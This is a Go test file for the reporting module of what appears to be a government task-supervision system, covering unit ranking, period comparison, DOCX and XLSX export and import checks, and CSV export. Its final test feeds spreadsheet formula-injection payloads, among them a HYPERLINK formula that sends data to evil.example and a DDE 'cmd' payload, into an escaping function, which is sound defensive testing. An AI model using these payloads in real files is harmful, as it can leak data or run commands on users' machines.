package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"duban/internal/deadline"
	"duban/internal/workplan"
)

var sh = deadline.Shanghai

func at(m time.Month, d, h int) time.Time { return time.Date(2024, m, d, h, 0, 0, 0, sh) }

// asg is a scored assignment due on March due (0: ongoing), from Feb 1.
func asg(id int64, unit string, kind workplan.UnitKind, due int) workplan.AssignmentFacts {
	dl := deadline.Deadline{Kind: deadline.KindOngoing}
	if due > 0 {
		dl = deadline.Deadline{Kind: deadline.KindDue, Due: deadline.NewDate(2024, 3, due)}
	}
	return workplan.AssignmentFacts{Assignment: workplan.Assignment{ID: id, UnitID: id, UnitName: unit, Role: workplan.RoleResponsible},
		UnitKind: kind, TaskNumber: int(id), Facts: deadline.Facts{Deadline: dl, Start: deadline.NewDate(2024, 2, 1)}}
}

func report(day, percent int, claims bool) deadline.Event {
	return deadline.Event{Kind: deadline.EventReport, At: at(3, day, 9), Percent: percent, Claims: claims}
}

func accept(reportDay, day int) deadline.Event {
	return deadline.Event{Kind: deadline.EventAccept, At: at(3, day, 10), ReportAt: at(3, reportDay, 9)}
}

// TestRankOutcomesAndTies: scores come from outcomes only; equal scores
// share a rank (1, 1, 3, 4) and are listed by name; activity (the number of
// reports) changes nothing; other kinds of unit are listed apart.
func TestRankOutcomesAndTies(t *testing.T) {
	t.Parallel()
	h := History{
		Base: []workplan.AssignmentFacts{
			asg(1, "乙县", workplan.UnitCountyGovernment, 10),
			asg(2, "甲县", workplan.UnitCountyGovernment, 10),
			asg(3, "丙县", workplan.UnitCountyGovernment, 10),
			asg(4, "丁县", workplan.UnitCountyGovernment, 10),
			asg(5, "某公司", workplan.UnitEnterprise, 10),
		},
		Events: map[int64][]deadline.Event{
			// 乙县 reports often, 甲县 once: both complete on time.
			1: {report(1, 10, false), report(2, 20, false), report(3, 50, false), report(5, 100, true), accept(5, 6)},
			2: {report(5, 100, true), accept(5, 6)},
			// 丙县 completes 5 days late: overdue at the end of the 11th–15th.
			3: {report(8, 50, false), report(15, 100, true), accept(15, 16)},
			// 丁县 never reports: overdue from the 11th to the 31st.
		},
	}
	p, err := Month("2024-03")
	require.NoError(t, err)
	r := Rank(h, p, EndOfDay(p.End), deadline.DefaultPolicy(), DefaultWeights())
	assert.Equal(t, 31, r.Days)
	require.Len(t, r.County, 4)
	var names []string
	var ranks []int
	for _, u := range r.County {
		names = append(names, u.UnitName)
		ranks = append(ranks, u.Rank)
	}
	assert.Equal(t, []string{"乙县", "甲县", "丙县", "丁县"}, names, "tied units are listed by name (Unicode order)")
	assert.Equal(t, []int{1, 1, 3, 4}, ranks)
	assert.True(t, r.County[0].Tied && r.County[1].Tied)
	assert.False(t, r.County[2].Tied)
	assert.Equal(t, 100.0, r.County[0].Score)
	c := r.County[2]
	assert.Equal(t, 5, c.OverdueDays)
	assert.Equal(t, 0, c.OnTime)
	assert.Equal(t, 1, c.DueByEnd)
	assert.InDelta(t, (30*83.9+20*100)/100.0, c.Score, 0.051)
	d := r.County[3]
	assert.Equal(t, 21, d.OverdueDays)
	assert.Equal(t, 100.0, d.AvgPaceLag)
	assert.Equal(t, 9.7, d.Score)
	require.Len(t, r.Other, 1)
	assert.Equal(t, 0, r.Other[0].Rank, "enterprises are not ranked")

	// Weights move the scores, never the measures.
	r2 := Rank(h, p, EndOfDay(p.End), deadline.DefaultPolicy(), Weights{Overdue: 1})
	assert.InDelta(t, 83.9, r2.County[2].Score, 0.001)
	assert.Equal(t, 5, r2.County[2].OverdueDays)
}

// TestRankPartialMonth: a month still running is scored up to the instant given.
func TestRankPartialMonth(t *testing.T) {
	t.Parallel()
	h := History{Base: []workplan.AssignmentFacts{asg(1, "甲县", workplan.UnitCountyGovernment, 10)}}
	p, _ := Month("2024-03")
	r := Rank(h, p, at(3, 13, 12), deadline.DefaultPolicy(), DefaultWeights())
	assert.Equal(t, 13, r.Days)
	assert.Equal(t, 3, r.County[0].OverdueDays, "the 11th and 12th ended overdue, and the 13th is overdue now")
}

func TestCompare(t *testing.T) {
	t.Parallel()
	pol := deadline.DefaultPolicy()
	base := []workplan.AssignmentFacts{asg(1, "甲县", workplan.UnitCountyGovernment, 10), asg(2, "乙县", workplan.UnitCountyGovernment, 10),
		asg(3, "丙县", workplan.UnitCountyGovernment, 0)}
	events := map[int64][]deadline.Event{1: {report(8, 50, false), report(12, 100, true), accept(12, 13)}, 3: {report(1, 10, false)}}
	state := func(t time.Time) []Item {
		var out []workplan.AssignmentFacts
		for _, a := range base {
			a.Facts = deadline.FoldUntil(a.Facts, events[a.ID], t)
			out = append(out, a)
		}
		return Evaluate(out, t, pol)
	}
	w := Compare(deadline.NewDate(2024, 3, 9), deadline.NewDate(2024, 3, 16), state(EndOfDay(deadline.NewDate(2024, 3, 9))), state(EndOfDay(deadline.NewDate(2024, 3, 16))), nil)
	require.Len(t, w.Completed, 1)
	assert.Equal(t, "甲县", w.Completed[0].UnitName)
	require.Len(t, w.NewlyOverdue, 1)
	assert.Equal(t, "乙县", w.NewlyOverdue[0].UnitName)
	require.Len(t, w.BackOnTrack, 1)
	assert.Equal(t, "甲县", w.BackOnTrack[0].UnitName, "yellow (due soon) before, done after")
	require.Len(t, w.MissedCadence, 1)
	assert.Equal(t, "丙县", w.MissedCadence[0].UnitName)
	assert.Equal(t, 15, w.MissedCadence[0].Misses[0].DaysSinceReport)
}

func TestDOCXIsA4WithRepeatingHeaders(t *testing.T) {
	t.Parallel()
	b := Bulletin{Title: "测试专报", Number: 3, Publisher: "督查室", PublishedAt: at(4, 1, 9), Period: Period{deadline.NewDate(2024, 3, 1), deadline.NewDate(2024, 3, 31)},
		Ranking: Ranking{County: []UnitScore{{UnitName: "甲县<&>", Rank: 1, Score: 99.5}}, Weights: DefaultWeights()}}
	doc, err := DOCX(b)
	require.NoError(t, err)
	again, err := DOCX(b)
	require.NoError(t, err)
	assert.Equal(t, doc, again, "the same bulletin gives the same bytes")
	zr, err := zip.NewReader(bytes.NewReader(doc), int64(len(doc)))
	require.NoError(t, err)
	parts := map[string]string{}
	for _, f := range zr.File {
		rc, err := f.Open()
		require.NoError(t, err)
		b, err := io.ReadAll(rc)
		require.NoError(t, err)
		parts[f.Name] = string(b)
	}
	for _, name := range []string{"[Content_Types].xml", "_rels/.rels", "word/document.xml", "word/styles.xml"} {
		assert.Contains(t, parts, name)
	}
	d := parts["word/document.xml"]
	assert.Contains(t, d, `<w:pgSz w:w="11906" w:h="16838"/>`, "A4")
	assert.Contains(t, d, `<w:tblHeader/>`, "header rows repeat")
	assert.Contains(t, d, `<w:cantSplit/>`, "rows do not split")
	assert.Contains(t, d, "第3期")
	assert.Contains(t, d, "甲县&lt;&amp;&gt;", "text is escaped")
}

func TestLedgerSheetRoundTrip(t *testing.T) {
	t.Parallel()
	rows := []LedgerRow{
		{AssignmentID: 7, Version: 3, TaskNumber: 1, TaskTitle: "任务一", UnitName: "甲县", Light: deadline.LightRed, LightText: "红",
			Fill: Fill{Percent: "40", Progress: "进行中", Claims: "否"}},
		{AssignmentID: 8, Version: 1, TaskNumber: 1, TaskTitle: "任务一", UnitName: "乙县", Light: deadline.LightGreen, LightText: "绿"},
		{AssignmentID: 9, Version: 2, TaskNumber: 2, TaskTitle: "任务二", UnitName: "甲县", Light: deadline.LightYellow, LightText: "黄",
			Fill: Fill{Percent: "10", Progress: "起步", Claims: "否"}},
	}
	b, err := XLSX("台账", rows)
	require.NoError(t, err)
	f, err := excelize.OpenReader(bytes.NewReader(b))
	require.NoError(t, err)
	panes, err := f.GetPanes(LedgerSheet)
	require.NoError(t, err)
	assert.True(t, panes.Freeze)
	assert.Equal(t, 1, panes.YSplit, "the header row is frozen")
	st, err := f.GetCellStyle(LedgerSheet, "G2")
	require.NoError(t, err)
	style, err := f.GetStyle(st)
	require.NoError(t, err)
	assert.Equal(t, []string{LightFill(deadline.LightRed)}, style.Fill.Color, "the light's colour")
	// Row 2 changes; row 4 gets an invalid percent and claim; row 3 is
	// another unit's, left alone.
	require.NoError(t, f.SetCellValue(LedgerSheet, "K2", 60))
	require.NoError(t, f.SetCellValue(LedgerSheet, "L2", "过半"))
	require.NoError(t, f.SetCellValue(LedgerSheet, "K4", "abc"))
	require.NoError(t, f.SetCellValue(LedgerSheet, "O4", "也许"))
	buf, err := f.WriteToBuffer()
	require.NoError(t, err)
	up, err := ReadXLSX(buf)
	require.NoError(t, err)
	require.Len(t, up, 3)
	current := map[int64]Current{
		7: {AssignmentID: 7, Version: 3, Editable: true, UnitName: "甲县", Fill: rows[0].Fill},
		8: {AssignmentID: 8, Version: 1, Editable: false, UnitName: "乙县"},
		9: {AssignmentID: 9, Version: 2, Editable: true, UnitName: "甲县", Fill: rows[2].Fill},
	}
	p := CheckImport(up, current)
	assert.Equal(t, 1, p.Changes)
	assert.Equal(t, 1, p.Ignored)
	assert.Equal(t, 1, p.Errors)
	assert.False(t, p.Applicable())
	assert.Equal(t, RowChange, p.Rows[0].Status)
	assert.Equal(t, 60, p.Rows[0].Percent)
	assert.Equal(t, "过半", p.Rows[0].Input().Progress)
	assert.Equal(t, RowIgnored, p.Rows[1].Status)
	require.Equal(t, RowError, p.Rows[2].Status)
	assert.Contains(t, strings.Join(p.Rows[2].Errors, "\n"), "第4行 K列(完成百分比):应为 0–100 的整数")
	assert.Contains(t, strings.Join(p.Rows[2].Errors, "\n"), "第4行 O列(申报完成):应填“是”或“否”")
	// A completion claim needs 100%.
	up[2].Fill = Fill{Percent: "50", Progress: "x", Claims: "是"}
	p = CheckImport(up, current)
	assert.Equal(t, []string{"第4行 K列(完成百分比):申报完成时应为 100"}, p.Rows[2].Errors)

	// Another unit's row that was changed, and a stale version, are errors.
	up[1].Fill.Progress = "冒名"
	up[0].Version = 2
	p = CheckImport(up[:2], current)
	assert.Contains(t, p.Rows[0].Errors[0], "第2行 P列(系统键):导出后该任务已有新的报送或审核")
	assert.Contains(t, p.Rows[1].Errors[0], "第3行 不是本单位承担的任务")

	_, err = ReadXLSX(strings.NewReader("not a sheet"))
	assert.Equal(t, workplan.EInvalid, workplan.ErrorCode(err))
}

// TestCSVEscapesFormulas checks that no cell of the CSV export can be read
// as a formula by a spreadsheet, whatever a report says.
func TestCSVEscapesFormulas(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"完成 80%,=不是公式", "完成 80%,=不是公式"},
		{"", ""},
		{"'already", "'already"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			assert.Equal(t, tt.want, CSVCell(tt.in))
		})
	}
	rows := []LedgerRow{{TaskNumber: 1, TaskTitle: "=1+1", UnitName: "@unit", Percent: 50, LastProgress: "+cmd|' /C calc'!A0",
		Fill: Fill{Percent: "50", Progress: "-1", Problems: "\tx", NextSteps: "=A1", Claims: "否"}}}
	var buf bytes.Buffer
	require.NoError(t, CSV(&buf, rows))
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
	require.NoError(t, err)
	require.Len(t, recs, 2)
	for i, cell := range recs[1] {
		if cell != "" {
			assert.NotContains(t, "=+-@\t\r", cell[:1], "column %d (%s) begins with a formula character: %q", i, recs[0][i], cell)
		}
	}
	assert.Equal(t, "50", recs[1][7], "numbers stay numbers")
}
